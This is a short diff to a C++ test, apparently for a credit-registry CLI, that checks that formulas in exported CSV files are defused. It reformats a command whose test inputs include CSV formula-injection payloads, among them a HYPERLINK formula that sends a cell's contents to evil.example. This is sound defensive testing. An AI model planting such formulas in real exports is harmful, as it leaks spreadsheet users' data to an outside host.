@@ -10,10 +10,10 @@ class CsvInjectionTest : public CliTest {};
 TEST_F(CsvInjectionTest, ExportedFormulasAreDefused) {
   ASSERT_NO_FATAL_FAILURE(SetUpStory());
   const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
-  RunResult retire = Creg(Join({"retire", "--batch", "1", "--quantity", "3", "--beneficiary", link,
-                                "--reason", "voluntary-individual", "--details", "-2+3",
-                                "--claim-reference", "@SUM(A1:A9)"},
-                               As("organiser")));
+  RunResult retire =
+      Creg(Join({"retire", "--batch", "1", "--quantity", "3", "--beneficiary", link, "--reason",
+                 "voluntary-individual", "--details", "-2+3", "--claim-reference", "@SUM(A1:A9)"},
+                As("organiser")));
   ASSERT_EQ(retire.exit_code, 0) << retire.err;
 
   RunResult csv = Creg({"export", "retirements", "-o", Path("r.csv")});
